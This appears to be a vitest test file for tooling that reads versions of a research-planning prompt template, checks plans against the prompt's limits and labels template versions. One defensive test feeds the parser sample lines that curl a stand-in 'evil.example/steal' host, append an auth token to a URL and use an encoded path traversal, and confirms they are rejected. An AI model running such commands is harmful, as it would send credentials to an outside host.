// The planning prompt's versions: what each asks of a run (read from its text), the values the
// newest one declares, and which version a template is.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { checkPlan, DEFAULT_LIMITS } from '../../src/plan/check.js';
import { parsePlan } from '../../src/plan/parse.js';
import { DEFAULT_PREFLIGHT_PATHS, readContract } from '../../src/prompt/contract.js';
import { evoSweepSection } from '../../src/prompt/evo-sweep.js';
import { formatMemories, type Memory } from '../../src/prompt/memories.js';
import { renderPrompt } from '../../src/prompt/render.js';
import { parseTemplate } from '../../src/prompt/template.js';
import { describePromptUsed } from '../../src/prompt/used.js';
import { buildPromptValues, selectValues, type PromptValuesInput } from '../../src/prompt/variables.js';
import { knownVersion, templateSha256 } from '../../src/prompt/versions.js';

const read = (rel: string) => readFileSync(new URL(rel, import.meta.url), 'utf8');
const SHIPPED = parseTemplate(read('../../prompts/wild_v2_planning.md'), 'shipped');
const HEAD = parseTemplate(read('../fixtures/wild/versions/wild_v2_planning.head.md'), 'head');

const input: PromptValuesInput = {
  goal: 'Label smoothing vs calibration',
  workdir: '/work/repo',
  tasksPath: '/work/repo/.wild/tasks.md',
  serverUrl: 'http://127.0.0.1:40111',
  sessionId: 'wild-0a1b2c3d',
  steer: '',
  apiCatalog: '### Runs',
  auth: { kind: 'proxy' },
};

describe('readContract', () => {
  it('reads the shipped version: four preflight lines, the audit protocol skill and its section', () => {
    expect(readContract(SHIPPED.body)).toEqual({
      preflightPaths: ['/docs', '/openapi.json', '/prompt-skills', '/wild/v2/system-health'],
      defaultPreflight: false,
      protocolSkillId: 'wild_v2_sweep_run_audit_protocol',
      playbookSection: 'Sweep/Run Audit Protocol',
      limits: DEFAULT_LIMITS,
    });
  });

  it('reads the newest version: the fifth preflight line, the execution ops protocol and its section', () => {
    expect(readContract(HEAD.body)).toEqual({
      preflightPaths: [
        '/docs',
        '/openapi.json',
        '/prompt-skills',
        '/prompt-skills/wild_v2_execution_ops_protocol',
        '/wild/v2/system-health',
      ],
      defaultPreflight: false,
      protocolSkillId: 'wild_v2_execution_ops_protocol',
      playbookSection: 'Execution Ops Protocol',
      limits: { ...DEFAULT_LIMITS, exampleRepeatsPhases: false },
    });
  });

  it("follows a team's edit: a line added to the preflight block, another protocol, another section", () => {
    const edited = HEAD.body
      .replace(
        'curl -sf {{server_url}}/docs >/dev/null',
        'curl -sf {{server_url}}/docs >/dev/null\ncurl -sf {{server_url}}/cluster >/dev/null',
      )
      .replaceAll('wild_v2_execution_ops_protocol', 'lab_gpu_protocol')
      .replace('section named `Execution Ops Protocol`', 'section named `Lab GPU Rules`');
    const contract = readContract(edited);
    expect(contract.preflightPaths).toEqual([
      '/docs',
      '/cluster',
      '/openapi.json',
      '/prompt-skills',
      '/prompt-skills/lab_gpu_protocol',
      '/wild/v2/system-health',
    ]);
    expect(contract.protocolSkillId).toBe('lab_gpu_protocol');
    expect(contract.playbookSection).toBe('Lab GPU Rules');
  });

  it('never turns a preflight line into anything but a plain path on the server (no query, no other host, no traversal tricks)', () => {
    const hostile = [
      '0. Server preflight must pass',
      '```bash',
      'curl -sf {{server_url}}/docs >/dev/null',
      'curl -sf https://evil.example/steal >/dev/null',
      'curl -sf {{server_url}}/wild/v2/system-health?token=$WILD_AUTH_TOKEN >/dev/null',
      'curl -sf {{server_url}}/a%2e%2e/b >/dev/null',
      '```',
    ].join('\n');
    expect(readContract(hostile).preflightPaths).toEqual(['/docs']);
  });

  it('checks the four paths every version checks when a prompt has no preflight block, and says so', () => {
    const contract = readContract('Plan {{goal}} and write {{tasks_path}}.');
    expect(contract).toEqual({
      preflightPaths: [...DEFAULT_PREFLIGHT_PATHS],
      defaultPreflight: true,
      protocolSkillId: null,
      playbookSection: null,
      limits: { ...DEFAULT_LIMITS, exampleRepeatsPhases: false },
    });
  });
});

describe('the plan checker holds a plan to the prompt in use', () => {
  const plan = parsePlan(readFileSync(new URL('../../demo-output/tasks.md', import.meta.url), 'utf8'));
  const rules = (findings: { rule: string }[]) => findings.map((f) => f.rule);

  it('finds nothing new in a good plan under either version', () => {
    expect(rules(checkPlan(plan, readContract(HEAD.body).limits))).toEqual(rules(checkPlan(plan, readContract(SHIPPED.body).limits)));
    expect(checkPlan(plan, readContract(HEAD.body).limits).filter((f) => f.severity === 'error')).toEqual([]);
  });

  it("quotes a team's numbers when its prompt asks for fewer phases and tasks", () => {
    const strict = HEAD.body
      .replace('Organize the plan as 4-6 phases.', 'Organize the plan as 2-3 phases.')
      .replace('Each phase must have 2-6 tasks.', 'Each phase must have 1-2 tasks.')
      .replace('Prefer 10-25 total tasks', 'Prefer 3-6 total tasks');
    const findings = checkPlan(plan, readContract(strict).limits);
    expect(findings.find((f) => f.rule === 'phase-count')?.message).toMatch(/organise it as 2-3 phases/);
    expect(findings.find((f) => f.rule === 'phase-task-count')?.message).toMatch(/each phase needs 1-2 tasks/);
    expect(findings.find((f) => f.rule === 'task-count')?.message).toMatch(/the prompt prefers 3-6 in all/);
  });

  it("blames the example's repeated phases only for the version whose example repeats them", () => {
    const copied = parsePlan('## Phase 1 - A\n- [ ] [P1-T1] a\n- [ ] [P1-T2] b\n## Phase 1 - A\n- [ ] [P1-T3] c\n');
    const message = (body: string) => checkPlan(copied, readContract(body).limits).find((f) => f.rule === 'phase-duplicate')?.message;
    expect(message(SHIPPED.body)).toContain("the prompt's own example shape repeats Phases 3 and 4");
    expect(message(HEAD.body)).not.toContain('example');
  });
});

describe('the newest prompt', () => {
  it('declares three variables more than the shipped one, all of which wild-plan supplies', () => {
    expect(HEAD.variables.filter((name) => !SHIPPED.variables.includes(name))).toEqual([
      'memories',
      'evo_sweep_enabled',
      'evo_sweep_section',
    ]);
    expect(selectValues(HEAD.variables, buildPromptValues(input)).missing).toEqual([]);
  });

  it('renders with the evo sweep section in place when on and nothing there when off', () => {
    const on = selectValues(HEAD.variables, buildPromptValues({ ...input, evoSweep: true })).values;
    const off = selectValues(HEAD.variables, buildPromptValues(input)).values;
    expect(on.evo_sweep_enabled).toBe('true');
    expect(off).toMatchObject({ evo_sweep_enabled: 'false', evo_sweep_section: '' });
    const withEvo = renderPrompt(HEAD, on);
    expect(withEvo).toContain('<evo_sweep>');
    expect(withEvo).not.toMatch(/\{\{\w+\}\}/);
    const without = renderPrompt(HEAD, off);
    expect(without).not.toContain('evo_sweep');
    expect(without).toContain('- `GET http://127.0.0.1:40111/runs`\n\n\n\n## Environment Setup Guidance');
  });
});

describe('evoSweepSection', () => {
  it('names every field the engine reads from the <evo_sweep> signal', () => {
    const section = evoSweepSection(true);
    for (const field of [
      'target_script',
      'fitness_metric',
      'fitness_direction',
      'search_space',
      'population_size',
      'generations',
      'top_k',
      'sweep_name',
    ]) {
      expect(section).toContain(`"${field}"`);
    }
    const json = /<evo_sweep>\n([\s\S]*?)\n<\/evo_sweep>/.exec(section)?.[1] ?? '';
    expect(() => JSON.parse(json.replace(/\n /g, ' '))).not.toThrow();
  });
});

describe('formatMemories', () => {
  const memory = (title: string, content = title, tags: string[] = []): Memory => ({ title, content, tags });

  it('is empty when the bank is, so the template renders nothing there', () => {
    expect(formatMemories([])).toBe('');
  });

  it('lists memories the way the engine does: tags (or general), the content indented when it says more', () => {
    expect(
      formatMemories([memory('Warm up the LR', 'Use 500 warmup steps.\nMore hurt.', ['training', 'lr']), memory('Seeds matter')]),
    ).toBe(
      '## Memory Bank (Lessons & Context from Past Sessions)\n\n' +
        '1. **[training, lr]** Warm up the LR\n   Use 500 warmup steps.\n   More hurt.\n' +
        '2. **[general]** Seeds matter',
    );
  });

  it('keeps the first 20 and counts the rest', () => {
    const text = formatMemories(Array.from({ length: 23 }, (_, i) => memory(`m${i + 1}`)));
    expect(text).toContain('20. **[general]** m20');
    expect(text).not.toContain('m21');
    expect(text.endsWith('\n\n_(+ 3 more memories)_')).toBe(true);
  });
});

describe('versions', () => {
  it('labels the shipped and the newest upstream version, and nothing else', () => {
    expect(knownVersion(templateSha256(SHIPPED.body))).toBe('upstream 073ac9a, as bundled');
    expect(knownVersion(templateSha256(HEAD.body))).toBe('upstream ce2938d');
    expect(knownVersion(templateSha256(`${HEAD.body}\n- one more rule of ours`))).toBeNull();
  });

  it('describes the prompt used in one line with its source, version and hash', () => {
    const sha256 = templateSha256(HEAD.body);
    const line = describePromptUsed({ source: 'server', skillId: 'wild_v2_planning', sha256, version: 'upstream ce2938d', notice: null });
    expect(line).toBe(`the server's skill \`wild_v2_planning\` (upstream ce2938d) · sha256 \`${sha256.slice(0, 12)}\``);
    const edited = describePromptUsed({ source: 'server', skillId: 'wild_v2_planning', sha256, version: null, notice: null });
    expect(edited).toContain('edited: no known version');
  });
});
